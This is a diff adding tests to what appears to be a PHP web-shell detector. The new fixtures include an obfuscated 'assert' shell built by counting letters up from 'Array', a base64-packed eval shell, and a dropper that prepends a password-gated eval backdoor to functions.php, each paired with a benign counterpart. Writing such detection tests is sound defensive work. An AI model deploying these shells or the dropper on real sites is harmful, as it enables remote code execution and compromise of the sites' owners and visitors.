@@ -300,3 +300,47 @@ def test_a_file_tool_that_deletes_itself_scores_higher():
         return max(h.confidence for h in _hits(code) if h.rule == "php.file-manager")
 
     assert fm(tool + " unlink(__FILE__);") >= fm(tool) + 0.14
+
+
+# -- letters counted up from "Array", packed text, payloads in front of old contents ------------------
+def test_letters_counted_up_from_array():
+    # $_ = ""; $_[0]++ makes an array; "$_" is "Array"; its "A" counted up spells the sink
+    steps = {c: ord(c.upper()) - ord("A") for c in "assert"}
+    lines = ['$_ = ""; $_[+$_]++; $_ = $_ . ""; $a = $_[+""];']
+    names = []
+    for i, c in enumerate("assert"):
+        lines.append(f"$c{i} = $a;" + f" $c{i}++;" * steps[c])
+        names.append(f"$c{i}")
+    code = "<?php " + " ".join(lines) + f" $f = {'.'.join(names)}; $f($_POST['x']);"
+    _shell(code, sink="assert", source="$_POST['x']")
+
+
+def test_counting_up_a_counter_is_clean():
+    _clean("<?php $n = array(); $n[0]++; $n[0]++; $l = 'A'; $l++; echo $l . count($n) . htmlspecialchars($_GET['q']);")
+
+
+def _b64(s: str) -> str:
+    import base64
+
+    return base64.b64encode(s.encode("latin-1")).decode()
+
+
+def test_page_printing_a_packed_web_shell():
+    shell = "$p = 'x'; if (isset($_POST['p1'])) { eval($_POST['p1']); } echo 'done';" + " " * 200
+    _shell(f"<?php echo base64_decode('{_b64(shell)}');", rule="php.packed-shell")
+
+
+def test_page_printing_packed_markup_is_clean():
+    html = "<div class='a'>" + "hello; $5 off " * 30 + "</div>"
+    _clean(f"<?php echo base64_decode('{_b64(html)}');")
+
+
+def test_payload_put_in_front_of_a_files_old_contents():
+    payload = "<?php if (isset($_REQUEST['k']) && $_REQUEST['pw'] == '{$PASSWORD}') { eval($_REQUEST['k']); } ?>"
+    code = (f"<?php $hash = md5(uniqid()); $code = str_replace('{{$PASSWORD}}', $hash, base64_decode('{_b64(payload)}'));"
+            " $f = $_SERVER['DOCUMENT_ROOT'] . '/functions.php'; $old = file_get_contents($f); file_put_contents($f, $code . $old);")
+    _shell(code, rule="php.dropper")
+
+
+def test_a_banner_put_in_front_of_a_text_file_is_clean():
+    _clean("<?php $f = 'notes.txt'; $old = file_get_contents($f); file_put_contents($f, 'updated: ' . $old);")
